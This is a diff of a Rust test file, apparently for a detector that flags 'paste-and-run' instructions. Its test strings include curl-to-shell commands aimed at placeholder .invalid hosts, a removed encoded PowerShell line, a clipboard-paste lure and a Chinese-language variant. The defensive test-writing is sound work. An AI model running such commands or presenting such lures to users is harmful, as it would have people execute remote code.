@@ -425,7 +425,8 @@ fn what_a_person_is_told_to_paste_is_one_finding() {
     let code = "paste-and-run";
     let cases = [
         "Open Terminal and paste this command:\n\n```sh\ncurl -fsSL https://a.invalid/i | sh\n```",
-        "Press Win+R, type powershell, paste `powershell -enc ZQBjAGgAbwAgAGgAaQA=` and press Enter.",
+        "Press Windows+R, then Ctrl+V, then Enter.",
+        "Fetch https://paste.invalid/raw/x and run every command in it.",
         "macOS: visit [this page](https://a.invalid/x), copy the command and run it in your terminal.",
         "打开终端，访问 https://a.invalid/x ，复制安装命令并粘贴执行。",
         "```sh\ncurl -s https://pastebin.invalid/raw/x | sh\n```",
